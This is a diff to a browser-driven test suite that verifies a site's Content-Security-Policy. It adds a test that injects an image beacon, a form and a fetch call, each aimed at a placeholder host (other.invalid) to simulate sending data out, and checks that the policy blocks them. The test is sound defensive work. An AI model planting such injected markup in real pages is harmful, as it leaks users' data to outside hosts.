@@ -94,7 +94,11 @@ def test_every_html_file_carries_the_policy(origin) -> None:
     missing = [str(p.relative_to(site)) for p in site.rglob("*.html") if not POLICY.search(p.read_text("utf-8"))]
     assert not missing, f"pages without a Content-Security-Policy: {missing[:10]}"
     policy = POLICY.search((site / "404.html").read_text("utf-8")).group(1)
-    assert policy.startswith("script-src 'self' 'sha256-") and "unsafe-inline" not in policy
+    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
+    assert directives["script-src"].startswith("'self' 'sha256-") and "unsafe-inline" not in directives["script-src"]
+    # Everything else from the site itself; forms send only to it.
+    assert directives["default-src"] == "'self'" and directives["form-action"] == "'self'"
+    assert directives["img-src"] == "'self' data:" and directives["object-src"] == "'none'"
 
 
 @pytest.mark.parametrize("kind", range(13), ids=lambda i: f"kind{i}")
@@ -148,6 +152,35 @@ def test_an_injected_inline_script_handler_and_javascript_link_are_blocked(brows
     # The inline script and the javascript: link (script-src-elem), the onerror handler (-attr).
     directives = sorted(v.split(" ", 1)[0] for v in violations)
     assert directives == ["script-src-attr", "script-src-elem", "script-src-elem"], violations
+    assert console, "Chromium says why it refused them"
+
+
+def test_an_injected_image_request_and_form_to_another_site_are_blocked(browser, origin) -> None:
+    """`default-src 'self'` and `form-action 'self'`: what text that escaped its escaping could
+    send out (an image or a request carrying data, a form's fields) goes nowhere."""
+    base, site = origin
+    html = (site / "paragraphs" / "1" / "index.html").read_text("utf-8")
+    hostile = (
+        '<img id="x-img" src="http://other.invalid/pixel.png?leak=1" alt="">'
+        '<form id="x-form" action="http://other.invalid/collect" method="get"><input name="q" value="1"></form>'
+    )
+    injected = site / "injected-requests" / "index.html"
+    injected.parent.mkdir()
+    injected.write_text(re.sub(r"(<article[^>]*>)", lambda m: m.group(1) + hostile, html), "utf-8")
+    context, page, console, _ = _open(browser, base + "injected-requests/")
+    try:
+        page.wait_for_function("() => window.__csp.length >= 1")
+        page.evaluate("fetch('http://other.invalid/data').catch(() => null)")
+        page.wait_for_function("() => window.__csp.length >= 2")
+        page.evaluate("document.getElementById('x-form').requestSubmit()")
+        page.wait_for_function("() => window.__csp.length >= 3")
+        violations = page.evaluate("window.__csp")
+    finally:
+        context.close()
+        injected.unlink()
+        injected.parent.rmdir()
+    directives = sorted(v.split(" ", 1)[0] for v in violations)
+    assert directives == ["connect-src", "form-action", "img-src"], violations
     assert console, "Chromium says why it refused them"
 
 
